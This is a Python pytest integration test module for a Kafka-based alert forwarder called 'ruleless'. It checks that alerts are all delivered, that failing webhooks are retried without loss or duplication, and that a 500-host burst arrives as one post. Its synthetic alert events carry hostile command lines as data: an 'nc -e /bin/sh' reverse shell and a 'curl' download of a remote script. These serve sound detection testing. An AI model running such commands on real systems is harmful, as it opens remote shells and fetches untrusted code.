"""`ruleless alerts` on the real broker: every alert arrives, a failing webhook is retried
without losing or duplicating anything, a 500-host burst is one post (issue 5)."""

from __future__ import annotations

import io
import json
import random
import signal
import string
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http import HTTPStatus
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from confluent_kafka import TopicPartition

from ruleless.kafka import consumer, producer
from ruleless.settings import AlertRoute, Settings, child_environ
from schemas.events import AlertNotification, ScoredEvent, decode_notification, decode_scored, encode
from sinks.alerts import AlertForwarder
from sinks.webhook import StreamTarget, Target, WebhookTarget
from tests.factories import event, fleet_stream
from tests.processes import RULELESS, drain, ruleless_process

pytestmark = pytest.mark.integration


class FlakyWebhook:
    """A webhook on 127.0.0.1 that answers 500 to its first ``failures`` requests."""

    def __init__(self, failures: int):
        self.failures = failures
        self.requests = 0
        self.accepted: list[AlertNotification] = []
        self.lock = threading.Lock()
        hook = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802 (http.server's name)
                body = self.rfile.read(int(self.headers["Content-Length"]))
                with hook.lock:
                    hook.requests += 1
                    fail = hook.requests <= hook.failures
                    if not fail:
                        hook.accepted.append(decode_notification(body))
                self.send_response(HTTPStatus.INTERNAL_SERVER_ERROR if fail else HTTPStatus.OK)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def fast(settings: Settings, **route: Any) -> Settings:
    """Short waits so a test sees groups close in seconds."""
    defaults = {"group_wait_s": 0.5, "window_s": 30.0, "max_per_window": 1000}
    alerts = settings.alerts.model_copy(update={
        "group_id": f"alerts-{settings.worker.group_id}", "retry_min_s": 0.05, "retry_max_s": 0.5,
        "metrics_port": 0, "default": AlertRoute(**{**defaults, **route}),
    })
    return settings.model_copy(update={"alerts": alerts})


@contextmanager
def forwarding(settings: Settings, target: Target) -> Iterator[AlertForwarder]:
    forwarder = AlertForwarder(settings, target)
    stop, ready = threading.Event(), threading.Event()
    thread = threading.Thread(target=forwarder.run, args=(stop, ready), daemon=True)
    thread.start()
    assert ready.wait(30)
    try:
        yield forwarder
    finally:
        stop.set()
        thread.join(60)
        assert not thread.is_alive()


def wait_for(what: str, check: Callable[[], bool], timeout: float = 60.0) -> None:
    deadline = time.monotonic() + timeout
    while not check():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.1)


def alert(i: int, host: str, cmdline: str) -> ScoredEvent:
    return ScoredEvent(
        event_id=f"al-{i}-{host}", ts=time.time(), org_id="acme", workload="web", host=host, pid=5000 + i,
        process_name="sh", parent_process="nginx", cmdline=cmdline, score=0.95, severity="alert",
    )


def publish(settings: Settings, alerts: list[ScoredEvent]) -> None:
    prod = producer(settings.kafka)
    for a in alerts:
        prod.produce(settings.topics.alerts, key=a.shard_key.encode(), value=encode(a))
    assert prod.flush(30) == 0


def committed(settings: Settings) -> int:
    cons = consumer(settings.kafka, settings.alerts.group_id)
    try:
        tps = cons.committed([TopicPartition(settings.topics.alerts, p) for p in range(settings.topics.partitions)], timeout=10)
    finally:
        cons.close()
    return sum(max(tp.offset, 0) for tp in tps)


def test_the_alert_consumer_receives_every_alert_the_worker_produces(topics: Settings, tmp_path: Path) -> None:
    settings = fast(topics)
    events = fleet_stream(pairs=6, per_pair=300, seed=21)
    events += [event(ts=events[-1].ts + i, host=f"web-{i}", cmdline=f"nc -e /bin/sh 203.0.113.{i} 4444") for i in range(5)]
    out = io.StringIO()
    with ruleless_process(settings, "worker", log=tmp_path / "worker.log"), forwarding(settings, StreamTarget(out)) as fwd:
        prod = producer(settings.kafka)
        for e in events:
            prod.produce(settings.topics.raw, key=e.shard_key.encode(), value=encode(e))
        assert prod.flush(30) == 0
        t = settings.topics
        got = drain(settings, [t.scored, t.alerts], lambda g: len({decode_scored(m).event_id for m in g[t.scored]}) >= len(events))
        produced = {decode_scored(m).event_id for m in got[t.alerts]}
        assert produced, "the stream should raise alerts (novel behaviours while shards learn)"
        wait_for("every alert in a notification", lambda: fwd.metrics.value("ruleless_alerts_consumed_total") >= len(got[t.alerts]))
    notes = [decode_notification(line) for line in out.getvalue().splitlines()]
    assert sum(n.count for n in notes) == len(produced)
    listed = [i for n in notes for i in n.event_ids]
    assert len(listed) == len(set(listed)) and set(listed) <= produced
    assert set(listed) == produced or any(n.count > len(n.event_ids) for n in notes)
    assert [n.kind for n in notes if n.behaviour.startswith("nc -e /bin/sh")] == ["new"]


def test_the_webhook_forwarder_retries_a_failing_endpoint_without_losing_or_duplicating(topics: Settings) -> None:
    settings = fast(topics)
    behaviours = [f"/usr/bin/{name} --install" for name in ("alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel")]
    alerts = [alert(i, host, cmd) for i, cmd in enumerate(behaviours) for host in ("web-1", "web-2", "web-3")]
    publish(settings, alerts + alerts[:4])  # the worker delivers at least once: duplicates
    hook = FlakyWebhook(failures=5)
    try:
        with forwarding(settings, WebhookTarget(hook.url, settings.alerts)) as fwd:
            wait_for("all notifications accepted", lambda: len(hook.accepted) >= len(behaviours))
            wait_for("offsets committed", lambda: committed(settings) == len(alerts) + 4)
            assert fwd.metrics.value("ruleless_alerts_delivery_failures_total", kind="error") == 5
        # A restarted forwarder in the same group posts nothing again.
        with forwarding(settings, WebhookTarget(hook.url, settings.alerts)):
            time.sleep(3)
    finally:
        hook.close()
    assert hook.requests == 5 + len(behaviours)
    assert len({n.id for n in hook.accepted}) == len(hook.accepted) == len(behaviours)
    assert sorted(i for n in hook.accepted for i in n.event_ids) == sorted(a.event_id for a in alerts)  # type: ignore[misc]
    assert all(n.count == 3 and n.host_count == 3 for n in hook.accepted)


def test_a_500_host_burst_is_one_post_with_count_500(topics: Settings) -> None:
    settings = fast(topics, group_wait_s=3.0)
    rng = random.Random(5)
    # Per host: another peer address and another mktemp name (tmp.XXXXXXXXXX).
    temp = ["".join(rng.choices(string.ascii_letters + string.digits, k=10)) for _ in range(500)]
    burst = [alert(i, f"web-{i:03d}", f"curl -fsSL http://198.51.100.{i % 200}/i.sh -o /tmp/tmp.{temp[i]}/i.sh") for i in range(500)]
    hook = FlakyWebhook(failures=0)
    try:
        with forwarding(settings, WebhookTarget(hook.url, settings.alerts)) as fwd:
            publish(settings, burst)
            wait_for("the burst posted", lambda: len(hook.accepted) >= 1)
            time.sleep(1)
            assert fwd.metrics.value("ruleless_alerts_consumed_total") == 500
    finally:
        hook.close()
    assert hook.requests == 1
    (note,) = hook.accepted
    assert (note.kind, note.count, note.host_count) == ("new", 500, 500)


def test_ruleless_alerts_prints_notifications_and_stops_on_sigterm(topics: Settings) -> None:
    settings = fast(topics, group_wait_s=0.2)
    publish(settings, [alert(i, f"h{i}", f"/opt/{name}/run") for i, name in enumerate(("x", "y", "z"))])
    env = child_environ(settings)
    proc = subprocess.Popen([RULELESS, "alerts"], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    lines: list[str] = []
    reader = threading.Thread(target=lambda: lines.extend(iter(proc.stdout.readline, "")), daemon=True)  # type: ignore[union-attr]
    reader.start()
    try:
        wait_for("three notifications on stdout", lambda: len(lines) >= 3, timeout=60)
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(30)
    assert proc.returncode == 0, proc.stderr.read()  # type: ignore[union-attr]
    assert sorted(json.loads(line)["behaviour"] for line in lines) == ["/opt/x/run", "/opt/y/run", "/opt/z/run"]
